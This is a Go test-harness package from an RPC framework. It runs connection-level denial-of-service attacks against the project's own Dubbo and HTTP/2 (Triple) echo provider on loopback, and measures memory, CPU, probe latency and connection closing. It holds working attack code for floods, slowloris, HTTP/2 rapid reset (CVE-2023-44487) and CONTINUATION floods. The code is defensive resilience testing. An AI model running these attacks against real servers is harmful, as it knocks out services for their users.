// Package attack is weft's suite of connection-level attacks on a provider,
// run the way an unauthenticated peer would: raw Dubbo frames, and HTTP/2
// frames written with x/net's Framer. Each case runs against a provider
// serving org.weft.bench.EchoService on dubbo and weftbench.echo.EchoService
// on tri (apps/examples/echo), while a legitimate caller probes the same
// port; Run measures what the attack cost the provider (RSS, CPU), what it
// did to the probe (success, latency against the same probe idle), and how
// long the provider took to close the attacking connections.
//
// test/attack_test.go asserts issue 22's bounds on every case; the command
// in cmd/attack prints the table, against any build of the provider (the
// note of issue 22 compares with the commit before the defenses).
package attack

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"os"
	"os/exec"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/weftrpc/weft/extension"
	"github.com/weftrpc/weft/kernel"
	"github.com/weftrpc/weft/plugins/protocol/dubbo"
	"github.com/weftrpc/weft/plugins/protocol/triple"
)

// Target is the provider under attack.
type Target struct {
	Dubbo, Tri string // host:port of each protocol
	Pid        int    // the provider's process, for RSS and CPU from /proc
}

// Case is one attack.
type Case struct {
	Name  string
	Proto string // "dubbo" or "tri": the port attacked and probed
	Conns int    // attacking connections
	// For is how long the attack runs; the provider must have closed every
	// attacking connection by then.
	For time.Duration
	// CloseWithin is the bound the provider must close them within,
	// counted from the attack's start (0: For).
	CloseWithin time.Duration
	// attack runs one connection's attack on nc until ctx ends or the
	// provider closes nc.
	attack func(ctx context.Context, nc net.Conn) error
}

// Result is what one case measured.
type Result struct {
	Case, Proto string
	Conns       int
	// RSSBase is the provider's resident memory before the attack;
	// RSSPeak the most it had during it (sampled every 50 ms).
	RSSBase, RSSPeak int64
	// CPU is the provider's CPU time during the attack.
	CPU time.Duration
	// Idle and Probe are the legitimate caller's figures without and
	// during the attack.
	Idle, Probe ProbeStats
	// Closed counts the attacking connections the provider closed;
	// CloseMax is when the last of them was, from the attack's start.
	Closed   int
	CloseMax time.Duration
	// Errs are the attack's own failures (it could not connect, say),
	// which make the figures meaningless.
	Errs []string
}

// Growth is the RSS the attack added.
func (r Result) Growth() int64 { return r.RSSPeak - r.RSSBase }

func (r Result) String() string {
	closed := fmt.Sprintf("%d/%d by %v", r.Closed, r.Conns, r.CloseMax.Round(10*time.Millisecond))
	if r.Closed == 0 {
		closed = fmt.Sprintf("0/%d", r.Conns)
	}
	return fmt.Sprintf("%-28s %-5s RSS +%4d MiB  CPU %6v  probe %6.2f%% ok, p99 %7v (idle %v)  closed %s",
		r.Case, r.Proto, r.Growth()>>20, r.CPU.Round(10*time.Millisecond), 100*r.Probe.OK(),
		r.Probe.P99.Round(100*time.Microsecond), r.Idle.P99.Round(100*time.Microsecond), closed)
}

// Cases are the attacks, each against one protocol's port.
func Cases() []Case {
	return []Case{
		{Name: "heartbeat flood, never read", Proto: "dubbo", Conns: 2, For: 6 * time.Second, attack: dubboFlood(heartbeat)},
		{Name: "large answers, never read", Proto: "dubbo", Conns: 2, For: 8 * time.Second, attack: dubboFlood(echoRequest(64 << 10))},
		// The provider allows an 8 MiB body 10 s + 1 s/MiB = 18 s, checked
		// every second; the attack runs the full 30 s the bound allows, so a
		// close that a loaded machine delays past 22 s still counts (CI,
		// 2026-12-02: the last of 8 was not closed by 22 s under -race and
		// stress-ng).
		{Name: "unfinished bodies", Proto: "dubbo", Conns: 8, For: 30 * time.Second, CloseWithin: 30 * time.Second, attack: dubboUnfinished},
		{Name: "slowloris, 1000 connections", Proto: "dubbo", Conns: 1000, For: 16 * time.Second, CloseWithin: 30 * time.Second, attack: dubboSlowloris},
		{Name: "PING flood, never read", Proto: "tri", Conns: 2, For: 6 * time.Second, attack: h2Flood(pingFrames)},
		{Name: "SETTINGS flood, never read", Proto: "tri", Conns: 2, For: 6 * time.Second, attack: h2Flood(settingsFrames)},
		{Name: "large answers, never read", Proto: "tri", Conns: 2, For: 8 * time.Second, attack: h2LargeAnswers},
		{Name: "rapid reset, 8 connections", Proto: "tri", Conns: 8, For: 6 * time.Second, attack: h2RapidReset},
		{Name: "empty CONTINUATION", Proto: "tri", Conns: 2, For: 6 * time.Second, attack: h2Continuation(0)},
		{Name: "huge CONTINUATION", Proto: "tri", Conns: 2, For: 6 * time.Second, attack: h2Continuation(16 << 10)},
		{Name: "unfinished bodies", Proto: "tri", Conns: 4, For: 8 * time.Second, attack: h2UnfinishedBodies},
		{Name: "WINDOW_UPDATE flood", Proto: "tri", Conns: 2, For: 6 * time.Second, attack: h2Flood(windowUpdateFrames)},
		{Name: "slowloris, 1000 connections", Proto: "tri", Conns: 1000, For: 16 * time.Second, CloseWithin: 30 * time.Second, attack: h2Slowloris},
	}
}

// Run runs c against t: the probe idle for a second and a half, then the
// attack with the probe going on beside it.
func Run(ctx context.Context, t Target, c Case) Result {
	addr := t.Dubbo
	if c.Proto == "tri" {
		addr = t.Tri
	}
	r := Result{Case: c.Name, Proto: c.Proto, Conns: c.Conns}
	pr, err := newProber(ctx, c.Proto, addr)
	if err != nil {
		r.Errs = append(r.Errs, "probe: "+err.Error())
		return r
	}
	defer pr.close()
	r.Idle = pr.run(ctx, 1500*time.Millisecond)
	r.RSSBase = rss(t.Pid)
	cpu0 := cpuTime(t.Pid)

	actx, cancel := context.WithTimeout(ctx, c.For)
	defer cancel()
	start := time.Now()
	peak := atomic.Int64{}
	peak.Store(r.RSSBase)
	sampled := make(chan struct{})
	go func() {
		defer close(sampled)
		tk := time.NewTicker(50 * time.Millisecond)
		defer tk.Stop()
		for {
			select {
			case <-actx.Done():
				return
			case <-tk.C:
				if v := rss(t.Pid); v > peak.Load() {
					peak.Store(v)
				}
			}
		}
	}()
	var mu sync.Mutex
	var wg sync.WaitGroup
	for i := range c.Conns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			nc, err := net.DialTimeout("tcp", addr, 5*time.Second)
			if err != nil {
				if i < c.Conns-1 || !strings.Contains(err.Error(), "refused") {
					mu.Lock()
					r.Errs = append(r.Errs, fmt.Sprintf("connection %d: %v", i, err))
					mu.Unlock()
				}
				return
			}
			stop := context.AfterFunc(actx, func() { nc.Close() })
			defer stop()
			err = c.attack(actx, nc)
			nc.Close()
			if actx.Err() == nil {
				// The provider ended it (a read or write failed) before the
				// attack's time was up.
				at := time.Since(start)
				mu.Lock()
				r.Closed++
				r.CloseMax = max(r.CloseMax, at)
				mu.Unlock()
			} else if err != nil && !isClosed(err) {
				mu.Lock()
				r.Errs = append(r.Errs, fmt.Sprintf("connection %d: %v", i, err))
				mu.Unlock()
			}
		}()
	}
	r.Probe = pr.run(actx, c.For)
	wg.Wait()
	<-sampled
	r.RSSPeak = peak.Load()
	r.CPU = cpuTime(t.Pid) - cpu0
	return r
}

func isClosed(err error) bool {
	return errors.Is(err, net.ErrClosed) || errors.Is(err, io.EOF) || errors.Is(err, os.ErrDeadlineExceeded) ||
		strings.Contains(err.Error(), "reset by peer") || strings.Contains(err.Error(), "broken pipe")
}

// ProbeStats are a legitimate caller's calls.
type ProbeStats struct {
	Calls, Failed int
	P50, P99      time.Duration
	// FirstErr is the first failure's text.
	FirstErr string
}

// OK is the share of calls that succeeded.
func (p ProbeStats) OK() float64 {
	if p.Calls == 0 {
		return 0
	}
	return float64(p.Calls-p.Failed) / float64(p.Calls)
}

// prober calls echo on the attacked port, one call at a time, a call every
// 2 ms, each with a second's timeout, as weft's own consumer does.
type prober struct {
	proto extension.Protocol
	iv    kernel.Invoker
}

func newProber(ctx context.Context, proto, addr string) (*prober, error) {
	log := slog.New(slog.NewTextHandler(io.Discard, nil))
	u, err := kernel.ParseURL(proto + "://" + addr + "/org.weft.bench.EchoService?interface=org.weft.bench.EchoService&timeout=1000")
	if err != nil {
		return nil, err
	}
	var p extension.Protocol = dubbo.New(log)
	if proto == "tri" {
		p = triple.New(log)
	}
	iv, err := p.Refer(ctx, u)
	if err != nil {
		p.Destroy()
		return nil, err
	}
	return &prober{proto: p, iv: iv}, nil
}

func (p *prober) close() { p.iv.Destroy(); p.proto.Destroy() }

func (p *prober) run(ctx context.Context, d time.Duration) ProbeStats {
	var st ProbeStats
	var lat []time.Duration
	end := time.Now().Add(d)
	for time.Now().Before(end) && ctx.Err() == nil {
		inv := kernel.NewInvocation("echo", "probe")
		inv.ParamTypes = "Ljava/lang/String;"
		cctx, cancel := context.WithTimeout(context.Background(), time.Second)
		t0 := time.Now()
		res, err := p.iv.Invoke(cctx, inv)
		el := time.Since(t0)
		cancel()
		st.Calls++
		if err == nil && res.Value != "probe" {
			err = fmt.Errorf("answered %v", res.Value)
		}
		if err != nil {
			st.Failed++
			if st.FirstErr == "" {
				st.FirstErr = err.Error()
			}
			el = time.Second // a failed call counts as the timeout
		}
		lat = append(lat, el)
		time.Sleep(2 * time.Millisecond)
	}
	if len(lat) > 0 {
		slices.Sort(lat)
		st.P50 = lat[len(lat)/2]
		st.P99 = lat[min(len(lat)-1, len(lat)*99/100)]
	}
	return st
}

// rss is pid's resident memory in bytes (VmRSS), 0 when unknown.
func rss(pid int) int64 {
	b, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/status")
	if err != nil {
		return 0
	}
	for line := range strings.SplitSeq(string(b), "\n") {
		if v, ok := strings.CutPrefix(line, "VmRSS:"); ok {
			kb, _ := strconv.ParseInt(strings.TrimSuffix(strings.TrimSpace(v), " kB"), 10, 64)
			return kb << 10
		}
	}
	return 0
}

// cpuTime is pid's user and system CPU time.
func cpuTime(pid int) time.Duration {
	b, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/stat")
	if err != nil {
		return 0
	}
	s := string(b)
	i := strings.LastIndexByte(s, ')')
	if i < 0 {
		return 0
	}
	f := strings.Fields(s[i+1:])
	if len(f) < 13 {
		return 0
	}
	u, _ := strconv.ParseInt(f[11], 10, 64)
	k, _ := strconv.ParseInt(f[12], 10, 64)
	return time.Duration(u+k) * 10 * time.Millisecond // USER_HZ is 100 on Linux
}

// --- Dubbo ---

const dubboMagic = 0xdabb

// dubboFrame is a Dubbo request frame: flags request|two-way(|event),
// serialization hessian2 (2).
func dubboFrame(id uint64, event bool, body []byte) []byte {
	flags := byte(0x80 | 0x40 | 2)
	if event {
		flags |= 0x20
	}
	b := binary.BigEndian.AppendUint16(nil, dubboMagic)
	b = append(b, flags, 0)
	b = binary.BigEndian.AppendUint64(b, id)
	b = binary.BigEndian.AppendUint32(b, uint32(len(body)))
	return append(b, body...)
}

// heartbeat is a Dubbo heartbeat request (an event whose body is Hessian
// null), as Java's HeartbeatTimerTask sends.
var heartbeat = dubboFrame(1, true, []byte{'N'})

// hstr is a Hessian string (short form up to 31 bytes, else chunks of
// 'S' with a 16-bit length; ASCII only).
func hstr(b []byte, s string) []byte {
	if len(s) < 32 {
		return append(append(b, byte(len(s))), s...)
	}
	for len(s) > 0 {
		n := min(len(s), 0xffff)
		tag := byte('S')
		if n < len(s) {
			tag = 'R'
		}
		b = append(b, tag, byte(n>>8), byte(n))
		b = append(b, s[:n]...)
		s = s[n:]
	}
	return b
}

// echoRequest is a call of echo(String) with an argument of n bytes: an
// answer as large.
func echoRequest(n int) []byte {
	b := hstr(nil, "2.0.2")
	b = hstr(b, "org.weft.bench.EchoService")
	b = hstr(b, "")
	b = hstr(b, "echo")
	b = hstr(b, "Ljava/lang/String;")
	b = hstr(b, strings.Repeat("a", n))
	b = append(b, 'H')
	b = hstr(b, "path")
	b = hstr(b, "org.weft.bench.EchoService")
	b = append(b, 'Z')
	return dubboFrame(2, false, b)
}

// dubboFlood writes frame as fast as the provider takes it and never
// reads: every frame asks for an answer.
func dubboFlood(frame []byte) func(context.Context, net.Conn) error {
	return func(ctx context.Context, nc net.Conn) error {
		batch := frame
		for len(batch) < 32<<10 {
			batch = append(batch, frame...)
		}
		for ctx.Err() == nil {
			if _, err := nc.Write(batch); err != nil {
				return err
			}
		}
		return nil
	}
}

// dubboSlowloris sends a Dubbo header claiming a 1 KiB body, then a byte
// a second, reading whatever comes (an answer, or the close).
func dubboSlowloris(ctx context.Context, nc net.Conn) error {
	frame := echoRequest(1000)
	return trickle(ctx, nc, frame)
}

// dubboUnfinished sends all but the last KiB of a call just under the
// payload limit (8 MiB) and waits: what a provider that buffers a frame
// until it ends must hold for it.
func dubboUnfinished(ctx context.Context, nc net.Conn) error {
	frame := echoRequest(8<<20 - 1024)
	closed := drain(nc)
	if _, err := nc.Write(frame[:len(frame)-1024]); err != nil {
		return err
	}
	select {
	case err := <-closed:
		return err
	case <-ctx.Done():
		return nil
	}
}

// trickle writes frame a byte a second, and reports the provider's close
// as soon as a read sees it.
func trickle(ctx context.Context, nc net.Conn, frame []byte) error {
	closed := drain(nc)
	tk := time.NewTicker(time.Second)
	defer tk.Stop()
	for i := 0; ; i = (i + 1) % len(frame) {
		if _, err := nc.Write(frame[i : i+1]); err != nil {
			return err
		}
		select {
		case err := <-closed:
			return err
		case <-ctx.Done():
			return nil
		case <-tk.C:
		}
	}
}

// --- HTTP/2 (Triple) ---

// The attacks call weftbench.echo.EchoService/Echo, a protobuf method the
// echo provider serves on its tri port.
const echoPath = "/weftbench.echo.EchoService/Echo"

// grpcEcho is a gRPC message of EchoRequest{msg: n bytes}.
func grpcEcho(n int) []byte {
	msg := append([]byte{0x0a}, binary.AppendUvarint(nil, uint64(n))...)
	msg = append(msg, strings.Repeat("m", n)...)
	b := []byte{0}
	b = binary.BigEndian.AppendUint32(b, uint32(len(msg)))
	return append(b, msg...)
}

// h2conn is an attacker's HTTP/2 connection: its frames are built in buf
// and written in batches.
type h2conn struct {
	nc  net.Conn
	buf bytes.Buffer
	fr  *http2.Framer
	enc *hpack.Encoder
	hb  bytes.Buffer
}

func newH2(nc net.Conn, settings ...http2.Setting) *h2conn {
	h := &h2conn{nc: nc}
	h.fr = http2.NewFramer(&h.buf, nil)
	h.enc = hpack.NewEncoder(&h.hb)
	h.buf.WriteString(http2.ClientPreface)
	h.fr.WriteSettings(settings...)
	return h
}

// headers is the header block of a gRPC call of Echo.
func (h *h2conn) headers(extra ...string) []byte {
	h.hb.Reset()
	for _, kv := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", echoPath}, {":authority", "attack"},
		{"content-type", "application/grpc"}, {"te", "trailers"}} {
		h.enc.WriteField(hpack.HeaderField{Name: kv[0], Value: kv[1]})
	}
	for i := 0; i+1 < len(extra); i += 2 {
		h.enc.WriteField(hpack.HeaderField{Name: extra[i], Value: extra[i+1]})
	}
	return bytes.Clone(h.hb.Bytes())
}

// flush writes what is built.
func (h *h2conn) flush() error {
	_, err := h.nc.Write(h.buf.Bytes())
	h.buf.Reset()
	return err
}

// send writes what is built and reports the provider's close, if drain
// saw it.
func (h *h2conn) send(closed <-chan error) error {
	if err := h.flush(); err != nil {
		return err
	}
	return closedYet(closed)
}

// drain reads and drops what the provider sends, and reports its close.
func drain(nc net.Conn) <-chan error {
	closed := make(chan error, 1)
	go func() {
		_, err := io.Copy(io.Discard, nc)
		if err == nil {
			err = io.EOF
		}
		closed <- err
	}()
	return closed
}

// closedYet is the provider's close, if drain saw it.
func closedYet(closed <-chan error) error {
	select {
	case err := <-closed:
		return err
	default:
		return nil
	}
}

// h2Flood sends the frames one adds to the batch, over and over, never
// reading: each asks the provider for an answer (or, WINDOW_UPDATE, for
// work and no answer).
func h2Flood(add func(fr *http2.Framer)) func(context.Context, net.Conn) error {
	return func(ctx context.Context, nc net.Conn) error {
		h := newH2(nc)
		if err := h.flush(); err != nil {
			return err
		}
		for h.buf.Len() < 32<<10 {
			add(h.fr)
		}
		batch := bytes.Clone(h.buf.Bytes())
		for ctx.Err() == nil {
			if _, err := nc.Write(batch); err != nil {
				return err
			}
		}
		return nil
	}
}

func pingFrames(fr *http2.Framer) { fr.WritePing(false, [8]byte{1, 2, 3}) }
func settingsFrames(fr *http2.Framer) {
	fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
}
func windowUpdateFrames(fr *http2.Framer) {
	fr.WriteWindowUpdate(0, 1)
}

// h2LargeAnswers grants the provider every window HTTP/2 allows, then asks
// for 64 KiB answers without end and never reads them.
func h2LargeAnswers(ctx context.Context, nc net.Conn) error {
	h := newH2(nc, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1})
	h.fr.WriteWindowUpdate(0, 1<<31-1-65535)
	if err := h.flush(); err != nil {
		return err
	}
	block, msg := h.headers(), grpcEcho(64<<10)
	for id := uint32(1); ctx.Err() == nil && id < 1<<31-2; id += 2 {
		h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true})
		for m := msg; len(m) > 0; {
			n := min(len(m), 16384)
			h.fr.WriteData(id, n == len(m), m[:n])
			m = m[n:]
		}
		if err := h.flush(); err != nil {
			return err
		}
	}
	return nil
}

// h2RapidReset opens streams with a whole call and resets each at once
// (CVE-2023-44487), reading what comes back.
func h2RapidReset(ctx context.Context, nc net.Conn) error {
	closed := drain(nc)
	h := newH2(nc)
	block, msg := h.headers(), grpcEcho(16)
	for id := uint32(1); ctx.Err() == nil && id < 1<<31-2; id += 2 {
		h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true})
		h.fr.WriteData(id, true, msg)
		h.fr.WriteRSTStream(id, http2.ErrCodeCancel)
		if h.buf.Len() > 16<<10 {
			if err := h.send(closed); err != nil {
				return err
			}
		}
	}
	return nil
}

// h2Continuation opens a header block and continues it without end, with
// CONTINUATION frames of size bytes (0: empty ones, CVE-2024-27316's
// family), reading what comes back.
func h2Continuation(size int) func(context.Context, net.Conn) error {
	return func(ctx context.Context, nc net.Conn) error {
		closed := drain(nc)
		h := newH2(nc)
		block := h.headers()
		h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block[:len(block)/2]})
		frag := make([]byte, size)
		for ctx.Err() == nil {
			for h.buf.Len() < 16<<10 {
				h.fr.WriteContinuation(1, false, frag)
			}
			if err := h.send(closed); err != nil {
				return err
			}
		}
		return nil
	}
}

// h2UnfinishedBodies opens streams whose message claims 4 MiB and sends as
// much of it as the provider's windows allow, never finishing one: what a
// provider that buffers requests until they end must hold.
func h2UnfinishedBodies(ctx context.Context, nc net.Conn) error {
	h := newH2(nc)
	if err := h.flush(); err != nil {
		return err
	}
	// The provider's windows, as its SETTINGS and WINDOW_UPDATEs give them.
	var connWin, streamWin atomic.Int64
	connWin.Store(65535)
	streamWin.Store(65535)
	closed := make(chan error, 1)
	grants := make(chan struct{}, 1)
	go func() {
		fr := http2.NewFramer(nil, nc)
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				closed <- err
				return
			}
			switch f := f.(type) {
			case *http2.SettingsFrame:
				if v, ok := f.Value(http2.SettingInitialWindowSize); ok {
					streamWin.Store(int64(v))
				}
			case *http2.WindowUpdateFrame:
				if f.StreamID == 0 {
					connWin.Add(int64(f.Increment))
					select {
					case grants <- struct{}{}:
					default:
					}
				}
			}
		}
	}()
	block := h.headers()
	head := []byte{0, 0, 0x40, 0, 0} // a message of 4 MiB
	chunk := make([]byte, 16384)
	for id := uint32(1); ctx.Err() == nil && id < 1<<31-2; id += 2 {
		h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true})
		h.fr.WriteData(id, false, head)
		connWin.Add(-int64(len(head)))
		for sent := int64(len(head)); sent+int64(len(chunk)) < streamWin.Load() && ctx.Err() == nil; {
			for connWin.Load() < int64(len(chunk)) {
				if err := h.flush(); err != nil {
					return err
				}
				select {
				case err := <-closed:
					return err
				case <-ctx.Done():
					return nil
				case <-grants:
				}
			}
			h.fr.WriteData(id, false, chunk)
			connWin.Add(-int64(len(chunk)))
			sent += int64(len(chunk))
			if h.buf.Len() >= 64<<10 {
				if err := h.flush(); err != nil {
					return err
				}
			}
		}
		if err := h.send(closed); err != nil {
			return err
		}
	}
	return nil
}

// h2Slowloris sends the preface and SETTINGS, then a call's HEADERS frame
// a byte a second.
func h2Slowloris(ctx context.Context, nc net.Conn) error {
	h := newH2(nc)
	if err := h.flush(); err != nil {
		return err
	}
	h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h.headers(), EndHeaders: true})
	return trickle(ctx, nc, bytes.Clone(h.buf.Bytes()))
}

// Provider is an echo provider process (apps/examples/echo) started for a
// case: each case gets a fresh one, so that one attack's leftovers do not
// count against the next.
type Provider struct {
	Target
	cmd    *exec.Cmd
	exited chan struct{}
	out    *bytes.Buffer
}

// StartProvider runs bin (a build of apps/examples/echo) on two free
// loopback ports and waits until both answer.
func StartProvider(bin string) (*Provider, error) {
	ports := make([]string, 2)
	for i := range ports {
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			return nil, err
		}
		ports[i] = ln.Addr().String()
		ln.Close()
	}
	p := &Provider{Target: Target{Dubbo: ports[0], Tri: ports[1]}, exited: make(chan struct{}), out: &bytes.Buffer{}}
	p.cmd = exec.Command(bin, "-addr", p.Dubbo, "-tri", p.Tri)
	p.cmd.Stdout, p.cmd.Stderr = &lockedWriter{w: p.out}, &lockedWriter{w: p.out}
	if err := p.cmd.Start(); err != nil {
		return nil, err
	}
	p.Pid = p.cmd.Process.Pid
	go func() { p.cmd.Wait(); close(p.exited) }()
	for deadline := time.Now().Add(30 * time.Second); ; time.Sleep(20 * time.Millisecond) {
		select {
		case <-p.exited:
			return nil, fmt.Errorf("the provider exited: %s", p.Output())
		default:
		}
		a, aerr := net.DialTimeout("tcp", p.Dubbo, time.Second)
		b, berr := net.DialTimeout("tcp", p.Tri, time.Second)
		if a != nil {
			a.Close()
		}
		if b != nil {
			b.Close()
		}
		if aerr == nil && berr == nil {
			return p, nil
		}
		if time.Now().After(deadline) {
			p.Stop()
			return nil, fmt.Errorf("the provider does not listen after 30 s: %v %v; %s", aerr, berr, p.Output())
		}
	}
}

// Alive reports whether the provider still runs.
func (p *Provider) Alive() bool {
	select {
	case <-p.exited:
		return false
	default:
		return true
	}
}

// Output is what the provider printed.
func (p *Provider) Output() string {
	outMu.Lock()
	defer outMu.Unlock()
	s := p.out.String()
	if len(s) > 4096 {
		s = "..." + s[len(s)-4096:]
	}
	return s
}

// Stop ends the provider.
func (p *Provider) Stop() {
	p.cmd.Process.Kill()
	<-p.exited
}

var outMu sync.Mutex

type lockedWriter struct{ w io.Writer }

func (l *lockedWriter) Write(b []byte) (int, error) {
	outMu.Lock()
	defer outMu.Unlock()
	return l.w.Write(b)
}
